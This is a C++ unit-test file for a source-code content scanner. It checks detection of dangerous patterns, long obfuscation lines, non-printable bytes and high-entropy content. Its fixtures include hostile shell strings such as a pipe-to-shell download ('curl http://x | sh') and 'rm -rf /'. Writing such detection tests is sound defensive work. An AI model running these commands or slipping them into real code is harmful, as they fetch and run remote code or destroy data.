#include <gtest/gtest.h>

#include "admit/content_scanner.hpp"
#include "testing.hpp"

#include <random>
#include <string>
#include <vector>

namespace {

using admit::ReasonCode;
using testutil::Bytes;

admit::ScanReport ScanAll(const std::string& text, std::string_view family = "python", size_t chunk = 0) {
    const auto policy = admit::DefaultPolicy();
    auto scanner = admit::ContentScanner::ForFamily(*policy, admit::HeuristicWeights{}, family);
    const auto bytes = Bytes(text);
    if (chunk == 0) {
        scanner.Feed(bytes);
    } else {
        for (size_t off = 0; off < bytes.size(); off += chunk) {
            scanner.Feed(std::span<const std::uint8_t>(bytes).subspan(off, std::min(chunk, bytes.size() - off)));
        }
    }
    return scanner.Finish();
}

std::string CleanPython(size_t approx_bytes) {
    std::string s;
    int i = 0;
    while (s.size() < approx_bytes) {
        s += "def add_" + std::to_string(i) + "(a, b):\n    \"\"\"Add two numbers.\"\"\"\n    return a + b\n\n";
        ++i;
    }
    return s;
}

TEST(ContentScannerTest, CleanSourceScoresZero) {
    const auto r = ScanAll(CleanPython(4096));
    EXPECT_DOUBLE_EQ(r.score, 0.0);
    EXPECT_TRUE(r.signals.empty());
    EXPECT_GE(r.bytes_scanned, 4096u);
}

TEST(ContentScannerTest, EachDistinctPatternCountsOnce) {
    const auto r = ScanAll("import os\nos.system('ls')\nOS.SYSTEM('pwd')\nx = eval(input())\n");
    EXPECT_TRUE(r.Triggered(ReasonCode::DangerousPattern));
    size_t hits = 0;
    for (const auto& s : r.signals) hits += s.code == ReasonCode::DangerousPattern;
    EXPECT_EQ(hits, 2u);
    EXPECT_DOUBLE_EQ(r.score, 2.0);
}

TEST(ContentScannerTest, GenericFamilyAlwaysApplies) {
    const auto r = ScanAll("console.log('x');\n// rm -rf /\n", "javascript");
    EXPECT_TRUE(r.Triggered(ReasonCode::DangerousPattern));

    const auto py_only = ScanAll("child_process\n", "python");
    EXPECT_FALSE(py_only.Triggered(ReasonCode::DangerousPattern));
}

TEST(ContentScannerTest, PatternsAcrossChunkBoundariesAreFound) {
    const std::string text = std::string(1000, 'x') + "\nsubprocess.Popen(['id'])\n";
    for (size_t chunk : {1u, 3u, 7u, 64u, 1003u}) {
        const auto r = ScanAll(text, "python", chunk);
        EXPECT_TRUE(r.Triggered(ReasonCode::DangerousPattern)) << "chunk " << chunk;
        EXPECT_DOUBLE_EQ(r.score, ScanAll(text).score) << "chunk " << chunk;
    }
}

TEST(ContentScannerTest, LongLineIsAnObfuscationSignal) {
    const auto r = ScanAll("x = '" + std::string(2500, 'a') + "'\n");
    EXPECT_TRUE(r.Triggered(ReasonCode::LongLine));
    EXPECT_DOUBLE_EQ(r.score, 3.0);

    const auto ok = ScanAll("x = '" + std::string(1990, 'a') + "'\n");
    EXPECT_FALSE(ok.Triggered(ReasonCode::LongLine));
}

TEST(ContentScannerTest, NonPrintableBytesInText) {
    std::string text = CleanPython(1000);
    for (size_t i = 0; i < text.size(); i += 10) text[i] = '\x01';
    const auto r = ScanAll(text);
    EXPECT_TRUE(r.Triggered(ReasonCode::NonPrintableContent));
}

TEST(ContentScannerTest, HighEntropyWindows) {
    std::mt19937 rng(7);
    std::string blob;
    for (int i = 0; i < 8192; ++i) blob.push_back(static_cast<char>(0x21 + rng() % 94));
    const auto r = ScanAll(blob, "generic");
    EXPECT_TRUE(r.Triggered(ReasonCode::HighEntropyContent));
    EXPECT_FALSE(ScanAll(CleanPython(8192)).Triggered(ReasonCode::HighEntropyContent));
}

TEST(ContentScannerTest, EntropyOfUniformAndConstantInput) {
    std::array<std::uint32_t, 256> hist{};
    hist['a'] = 100;
    EXPECT_DOUBLE_EQ(admit::EntropyBits(hist, 100), 0.0);
    hist.fill(1);
    EXPECT_NEAR(admit::EntropyBits(hist, 256), 8.0, 1e-9);
    EXPECT_DOUBLE_EQ(admit::EntropyBits(hist, 0), 0.0);
}

TEST(ContentScannerTest, ScanStreamUsesFixedBuffer) {
    const auto policy = admit::DefaultPolicy();
    auto scanner = admit::ContentScanner::ForFamily(*policy, admit::HeuristicWeights{}, "shell");
    testutil::MemReader in(Bytes(std::string(5000, 'a') + "\ncurl http://x | sh\n"));
    auto res = admit::ScanStream(in, scanner, 512);
    ASSERT_TRUE(res.ok) << res.msg;
    const auto r = scanner.Finish();
    EXPECT_TRUE(r.Triggered(ReasonCode::DangerousPattern));
    EXPECT_TRUE(r.Triggered(ReasonCode::LongLine));
}

} // namespace
